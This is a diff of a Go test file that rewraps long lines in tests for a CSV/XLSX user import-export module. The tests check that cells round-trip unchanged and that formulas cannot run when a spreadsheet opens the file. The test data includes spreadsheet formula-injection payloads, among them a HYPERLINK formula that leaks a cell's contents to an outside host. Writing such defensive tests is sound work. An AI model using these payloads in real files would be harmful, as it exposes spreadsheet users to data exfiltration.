@@ -36,8 +36,10 @@ func TestWhatIsWrittenIsReadAgainAsItWas(t *testing.T) {
 		rapid.String(),
 		rapid.StringMatching(`['=+\-@\t\r\n ＝＠"“,;|_x0-9A-F<>&]{0,12}`),
 		rapid.SampledFrom([]string{
-			"=1+1", "'=1+1", "''=1", "  =1", "' =1", "'", "''", "+33 6 12", "-", "@SUM(A1)", "\tx", "\rx", "\r\nx\n", "x\r", "＝1", "'a", "O'Neil",
-			"_x0041_", "_x005F_x0041_", "_x0041_x0042_", "\ufeffx", `"`, `""`, "a\"b", " a ", "\u0085", "#N/A", "0012", "1E5", "31/12/2026", "\a", "sep=;",
+			"=1+1", "'=1+1", "''=1", "  =1", "' =1", "'", "''", "+33 6 12", "-", "@SUM(A1)", "\tx",
+			"\rx", "\r\nx\n", "x\r", "＝1", "'a", "O'Neil",
+			"_x0041_", "_x005F_x0041_", "_x0041_x0042_", "\ufeffx", `"`, `""`, "a\"b", " a ",
+			"\u0085", "#N/A", "0012", "1E5", "31/12/2026", "\a", "sep=;",
 		}),
 	)
 	rapid.Check(t, func(t *rapid.T) {
@@ -56,12 +58,14 @@ func TestWhatIsWrittenIsReadAgainAsItWas(t *testing.T) {
 			if err != nil || len(rows) != 1 {
 				t.Fatalf("%s: %v, %q", f, err, b)
 			}
-			want, got := trimRecord(fileRecord{cells: slices.Clone(cell)}).cells, trimRecord(fileRecord{cells: whole(rows[0])}).cells
+			want, got := trimRecord(fileRecord{cells: slices.Clone(cell)}).cells,
+				trimRecord(fileRecord{cells: whole(rows[0])}).cells
 			if len(got) != len(want) {
 				t.Fatalf("%s: %q, want %q", f, got, want)
 			}
 			for i := range got {
-				// Of a cell of spaces alone nothing is kept in a workbook: it is empty to whoever looks.
+				// Of a cell of spaces alone nothing is kept in a workbook: it is empty to whoever
+				// looks.
 				if got[i] != want[i] && !(f == XLSX && isBlank(want[i]) && got[i] == "") {
 					t.Fatalf("%s: cell %d is %q, want %q", f, i, got[i], want[i])
 				}
@@ -78,7 +82,8 @@ func TestProtectAndRestoreAreInverses(t *testing.T) {
 		if restoreCell(p) != s {
 			t.Fatalf("%q → %q → %q", s, p, restoreCell(p))
 		}
-		if first := strings.TrimLeft(p, " "); first != "" && strings.IndexAny(first, formulaSigns) == 0 {
+		if first := strings.TrimLeft(p, " "); first != "" &&
+			strings.IndexAny(first, formulaSigns) == 0 {
 			t.Fatalf("%q would be run", p)
 		}
 	})
@@ -87,21 +92,24 @@ func TestProtectAndRestoreAreInverses(t *testing.T) {
 // BAT-6: exports are safe to open in a spreadsheet.
 func TestNoCellOfATextIsRunByASpreadsheet(t *testing.T) {
 	t.Parallel()
-	for _, evil := range []string{"=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "   +1", "＝1", `=HYPERLINK("http://x/"&A1)`} {
+	for _, evil := range []string{"=1+1", "+1", "-1", "@x", "\t=1", "\r=1", "\n=1", " =1", "   +1",
+		"＝1", `=HYPERLINK("http://x/"&A1)`} {
 		b := string(written(t, CSV, []string{"Nom", "E-mail"}, []string{evil, evil}))
 		line := strings.TrimPrefix(b, "\ufeffNom;E-mail\r\n")
 		if !strings.HasPrefix(line, "'") && !strings.HasPrefix(line, `"'`) {
 			t.Errorf("%q is written as %q", evil, line)
 		}
 	}
-	if got := string(written(t, CSV, nil, []string{"a'b", "x=1", "12", "É"})); got != "\ufeffa'b;x=1;12;É\r\n" {
+	if got := string(
+		written(t, CSV, nil, []string{"a'b", "x=1", "12", "É"})); got != "\ufeffa'b;x=1;12;É\r\n" {
 		t.Errorf("%q: harmless cells are changed", got)
 	}
 }
 
 func TestAnotherProgramReadsOurWorkbook(t *testing.T) {
 	t.Parallel()
-	rows := [][]string{{"Lefèvre", "=1+1", "0012", "a & <b>\n\"c\"", " x "}, {"", "x", strings.Repeat("é", 40_000)}}
+	rows := [][]string{{"Lefèvre", "=1+1", "0012", "a & <b>\n\"c\"", " x "},
+		{"", "x", strings.Repeat("é", 40_000)}}
 	b := written(t, XLSX, []string{"Nom", "Formule", "Code", "Texte", "Espaces"}, rows...)
 	f, err := excelize.OpenReader(bytes.NewReader(b))
 	if err != nil {
@@ -115,7 +123,8 @@ func TestAnotherProgramReadsOurWorkbook(t *testing.T) {
 	if err != nil || len(got) != 3 || !slices.Equal(got[1], rows[0]) || len(got[2][2]) != 2*32_767 {
 		t.Errorf("%.200q, %v", got, err)
 	}
-	if kind, err := f.GetCellType("People- all-some", "C2"); err != nil || kind != excelize.CellTypeInlineString {
+	if kind, err := f.GetCellType("People- all-some", "C2"); err != nil ||
+		kind != excelize.CellTypeInlineString {
 		t.Errorf("0012 is of type %v, %v", kind, err)
 	}
 	if formula, _ := f.GetCellFormula("People- all-some", "B2"); formula != "" {
@@ -128,7 +137,8 @@ func TestAnotherProgramReadsOurWorkbook(t *testing.T) {
 	if style, err := f.GetStyle(id); err != nil || style.Font == nil || !style.Font.Bold {
 		t.Errorf("the header is not bold: %+v, %v", style, err)
 	}
-	if panes, err := f.GetPanes("People- all-some"); err != nil || !panes.Freeze || panes.YSplit != 1 {
+	if panes, err := f.GetPanes("People- all-some"); err != nil || !panes.Freeze ||
+		panes.YSplit != 1 {
 		t.Errorf("the header does not stay: %+v, %v", panes, err)
 	}
 	if width, _ := f.GetColWidth("People- all-some", "A"); width < 15 {
@@ -163,7 +173,9 @@ func TestRejectedRowsComeBackAsTheyWere(t *testing.T) {
 				}
 				var table [][]string
 				for i, row := range rows {
-					if !slices.Equal(row.Cells, first[i].Cells) || row.Email != first[i].Email || row.Password != first[i].Password || len(row.Errors) != len(first[i].Errors) {
+					if !slices.Equal(row.Cells, first[i].Cells) || row.Email != first[i].Email ||
+						row.Password != first[i].Password ||
+						len(row.Errors) != len(first[i].Errors) {
 						t.Errorf("%s, %s, turn %d: %+v, was %+v", name, f, turn, row, first[i])
 					}
 					cells := whole(row)
@@ -181,7 +193,8 @@ func TestRejectedRowsComeBackAsTheyWere(t *testing.T) {
 
 func TestTheTemplateNamesEveryColumnAndIsReadAgain(t *testing.T) {
 	t.Parallel()
-	fields := []Field{{Key: "size", Name: "Size"}, {Key: "size_2", Name: "size"}, {Key: "lang", Name: "Langue"}}
+	fields := []Field{{Key: "size", Name: "Size"}, {Key: "size_2", Name: "size"},
+		{Key: "lang", Name: "Langue"}}
 	values := []Value{{Groups, "", "grp_1", "North / =Sales"}, {CustomField, "Size", "XL", ""}}
 	for _, l := range i18n.Locales {
 		for _, f := range []Format{CSV, XLSX} {
@@ -193,7 +206,9 @@ func TestTheTemplateNamesEveryColumnAndIsReadAgain(t *testing.T) {
 			if err != nil {
 				t.Fatal(l, f, err)
 			}
-			if got := names(r); !strings.HasSuffix(got, " customFields.size customFields.size_2 customFields.lang") || len(r.Columns()) != 14+3 {
+			if got := names(r); !strings.HasSuffix(got,
+				" customFields.size customFields.size_2 customFields.lang") ||
+				len(r.Columns()) != 14+3 {
 				t.Errorf("%s %s: %s", l, f, got)
 			}
 			if _, err := r.Next(); err != io.EOF {
@@ -206,7 +221,8 @@ func TestTheTemplateNamesEveryColumnAndIsReadAgain(t *testing.T) {
 				}
 				sheets := book.GetSheetList()
 				rows, err := book.GetRows(sheets[1])
-				if err != nil || len(sheets) != 2 || len(rows) != 3 || rows[1][1] != "grp_1" || rows[1][0] != Label(Groups, l) || rows[2][0] != "Size" {
+				if err != nil || len(sheets) != 2 || len(rows) != 3 || rows[1][1] != "grp_1" ||
+					rows[1][0] != Label(Groups, l) || rows[2][0] != "Size" {
 					t.Errorf("%q %q %v", sheets, rows, err)
 				}
 			}
@@ -218,7 +234,8 @@ func TestTheTemplateNamesEveryColumnAndIsReadAgain(t *testing.T) {
 func TestGroupsAreExportedWithTheirIds(t *testing.T) {
 	t.Parallel()
 	var b bytes.Buffer
-	if err := WriteGroups(&b, CSV, i18n.French, []Group{{"grp_1", "=EXT", "Nord / Ventes; Est"}}); err != nil {
+	if err := WriteGroups(&b, CSV, i18n.French,
+		[]Group{{"grp_1", "=EXT", "Nord / Ventes; Est"}}); err != nil {
 		t.Fatal(err)
 	}
 	want := "\ufeffIdentifiant du groupe;Identifiant externe;Chemin\r\ngrp_1;'=EXT;\"Nord / Ventes; Est\"\r\n"
